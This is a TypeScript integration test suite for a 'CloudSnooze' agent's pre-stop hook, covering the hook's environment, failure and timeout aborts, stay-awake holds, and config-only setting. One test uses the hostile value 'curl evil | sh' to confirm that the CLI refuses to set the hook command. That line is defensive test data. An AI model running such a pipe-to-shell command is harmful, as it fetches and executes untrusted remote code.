/**
 * The pre-stop hook with the real agent in local mode (it runs in dry-run and local mode
 * too, so users can test it): driven only through the CLI and the socket.
 */
import { existsSync, readFileSync } from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { HistoryEvent } from '../../contract/protocol.js';
import { ALWAYS_IDLE, runCli, startAgent, tempDir, waitFor, type AgentHandle } from '../helpers/agent.js';

const agents: AgentHandle[] = [];
afterEach(async () => {
  await Promise.all(agents.splice(0).map((a) => a.stop('SIGKILL')));
});

async function agent(config: Record<string, unknown>, dir = tempDir('cs-hook-')): Promise<AgentHandle> {
  const a = await startAgent({ dir, config: { ...ALWAYS_IDLE, ...config } });
  agents.push(a);
  return a;
}

async function events(a: AgentHandle): Promise<HistoryEvent[]> {
  return (await a.req('HISTORY', { limit: 200, details: true })).events.reverse();
}

const waitEvent = (a: AgentHandle, type: HistoryEvent['type'], ms = 30_000) =>
  waitFor(async () => (await events(a)).find((e) => e.type === type) ?? null, ms, `${type}; agent output:\n${a.output()}`);

const types = async (a: AgentHandle) => (await events(a)).map((e) => e.type).filter((t) => t !== 'agent_start' && t !== 'warning');

describe('pre-stop hook (local mode)', () => {
  it('runs before the stop with the stop facts in its environment; history has its exit code, duration and output', async () => {
    const dir = tempDir('cs-hook-');
    const envFile = path.join(dir, 'hook-env');
    const a = await agent({ pre_stop_command: `env | grep ^CLOUDSNOOZE_ | sort > ${envFile}; echo checkpoint synced` }, dir);
    const stop = await waitEvent(a, 'dry_run_stop');
    const all = await events(a);
    const hook = all.find((e) => e.type === 'pre_stop')!;
    expect(hook.id).toBeLessThan(stop.id);
    expect(hook.message).toMatch(/^Pre-stop hook exit 0 after \d+\.\d s; stopping$/);
    expect(hook.details).toMatchObject({ exit_code: 0, signal: null, timed_out: false, output: 'checkpoint synced', mode: 'local' });
    expect(hook.details!.duration_ms).toEqual(expect.any(Number));
    const env = Object.fromEntries(
      readFileSync(envFile, 'utf8')
        .trim()
        .split('\n')
        .map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]),
    );
    expect(env).toEqual({
      CLOUDSNOOZE_INSTANCE_ID: '',
      CLOUDSNOOZE_INSTANCE_TYPE: '',
      CLOUDSNOOZE_MODE: 'local',
      CLOUDSNOOZE_REASON: expect.stringMatching(/^System idle for [\d.]+ minutes \(threshold: 0\.05 minutes\)$/),
      CLOUDSNOOZE_REGION: '',
      CLOUDSNOOZE_SOCKET: a.socket,
      CLOUDSNOOZE_STOP_AT: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/),
    });
    // The tags' reason is the one the hook was told.
    expect((stop.details!.tags as Record<string, string>)['CloudSnooze:StopReason']).toBe(env.CLOUDSNOOZE_REASON);
  });

  it('a failing hook aborts the stop (stop_failed, never a dry_run_stop); with pre_stop_on_failure "stop" the stop goes ahead', async () => {
    const failing = 'echo "rsync: connection refused" >&2; exit 3';
    const [abort, go] = await Promise.all([agent({ pre_stop_command: failing }), agent({ pre_stop_command: failing, pre_stop_on_failure: 'stop' })]);

    const failed = await waitEvent(abort, 'stop_failed');
    expect(failed.message).toMatch(/^Stop failed: pre-stop hook exit 3; retrying in/);
    expect(failed.details).toMatchObject({ code: 'PRE_STOP_FAILED', tags: {} });
    const hook = (await events(abort)).find((e) => e.type === 'pre_stop')!;
    expect(hook.id).toBeLessThan(failed.id);
    expect(hook.message).toBe(`Pre-stop hook failed: exit 3 after ${(hook.details!.duration_ms as number / 1000).toFixed(1)} s (last output: rsync: connection refused); stop aborted`);
    expect(hook.details).toMatchObject({ exit_code: 3, output: 'rsync: connection refused', on_failure: 'abort' });
    expect((await abort.req('STATUS')).error).toMatch(/pre-stop hook exit 3/);

    await waitEvent(go, 'dry_run_stop');
    expect((await types(go)).slice(0, 2)).toEqual(['pre_stop', 'dry_run_stop']);
    expect((await events(go)).find((e) => e.type === 'pre_stop')!.message).toMatch(/stopping anyway \(pre_stop_on_failure is "stop"\)$/);

    // Retried with backoff while idle, and never stopped.
    await new Promise((r) => setTimeout(r, 4000));
    expect(new Set(await types(abort))).toEqual(new Set(['pre_stop', 'stop_failed']));
  });

  it('a hook past its timeout is killed and aborts the stop', async () => {
    const a = await agent({ pre_stop_command: 'echo started; sleep 30', pre_stop_timeout_seconds: 1 });
    const failed = await waitEvent(a, 'stop_failed');
    expect(failed.message).toMatch(/pre-stop hook timed out after 1 s \(its process group was killed\)/);
    const hook = (await events(a)).find((e) => e.type === 'pre_stop')!;
    expect(hook.details).toMatchObject({ timed_out: true, output: 'started' });
    expect(hook.details!.duration_ms as number).toBeLessThan(5000);
  });

  it('a hold placed while the hook runs cancels the stop', async () => {
    const dir = tempDir('cs-hook-');
    const marker = path.join(dir, 'hook-started');
    const a = await agent({ pre_stop_command: `touch ${marker}; sleep 2; echo done` }, dir);
    await waitFor(() => existsSync(marker), 30_000, 'the hook to start');
    expect((await a.req('STATUS')).state).toBe('stopping');
    const r = await runCli(['--socket', a.socket, 'stay-awake', '--reason', 'wait for me']);
    expect(r.code).toBe(0);
    const hook = await waitEvent(a, 'pre_stop');
    expect(hook.details).toMatchObject({ exit_code: 0, output: 'done' });
    await new Promise((res) => setTimeout(res, 2000));
    expect(await types(a)).toEqual(['stay_awake', 'pre_stop']);
    expect((await a.req('STATUS')).state).toBe('stay_awake');
  });

  it('pre_stop_command is set in the config file only; CONFIG_GET with the longest one fits in 4 KiB', async () => {
    const long = `true ${'#'.repeat(995)}`;
    const a = await agent({ naptime_minutes: 600, pre_stop_command: long });
    const r = await runCli(['--socket', a.socket, 'config', 'set', 'pre_stop_command', 'curl evil | sh']);
    expect(r.code).toBe(4);
    expect(r.stderr).toBe(`snooze: Pre-stop command can only be set in the config file ${a.configPath}, as root; nothing changed\n`);
    const t = await runCli(['--socket', a.socket, 'config', 'set', 'pre_stop_timeout_seconds', '60']);
    expect(t).toMatchObject({ code: 0, stdout: 'pre_stop_timeout_seconds = 60\n' });
    expect((await runCli(['--socket', a.socket, 'config', 'set', 'pre_stop_on_failure', 'maybe'])).code).toBe(4);
    const reply = await new Promise<Buffer>((resolve, reject) => {
      const s = net.createConnection(a.socket, () => s.write(JSON.stringify({ command: 'CONFIG_GET', params: {} })));
      s.once('data', (b) => {
        s.destroy();
        resolve(b);
      });
      s.on('error', reject);
    });
    expect(reply.length).toBeLessThanOrEqual(4096);
    expect(JSON.parse(reply.toString()).data.pre_stop_command).toBe(long);
  });
});
